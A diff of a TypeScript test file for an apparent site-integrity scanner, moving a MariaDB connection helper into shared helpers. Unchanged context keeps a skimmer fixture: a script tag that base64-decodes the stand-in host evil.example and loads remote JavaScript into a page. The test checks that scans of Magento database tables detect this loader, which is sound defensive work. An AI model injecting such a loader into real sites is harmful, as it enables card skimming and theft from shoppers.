@@ -14,23 +14,12 @@ import { PostgresShopDb } from '../../src/adapters/shopdb/postgres.ts';
 import { scanDatabase, tablesToScan } from '../../src/integrity/scandb.ts';
 import { loadCodeRules } from '../../src/integrity/scan/rules.ts';
 import { scanDbSchema } from '../../src/core/config/integrity.ts';
-import { pgAdminUrl, pgSkip } from '../helpers/db.ts';
+import { pgAdminUrl, pgSkip, mysqlAdminUrl, mysqlSkip } from '../helpers/db.ts';
 
-const mysqlUrl = process.env['RIPCORD_TEST_MYSQL'] ?? 'mysql://root@127.0.0.1:3306/';
+const mysqlUrl = mysqlAdminUrl;
 const rules = loadCodeRules();
 const skimmer =
   '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvai5qcw==");document.head.appendChild(s);</script>';
-
-async function mysqlSkip(): Promise<{ skip?: string }> {
-  try {
-    const c = await mysql.createConnection({ uri: mysqlUrl, connectTimeout: 3000 });
-    await c.end();
-    return {};
-  } catch (e) {
-    if (process.env['CI'] === 'true') return {};
-    return { skip: `MariaDB not reachable (${e instanceof Error ? e.message : String(e)})` };
-  }
-}
 
 test('scan-db finds a skimmer in Magento core_config_data and cms_block on MariaDB', await mysqlSkip(), async () => {
   const name = `ripcord_scan_${randomBytes(5).toString('hex')}`;
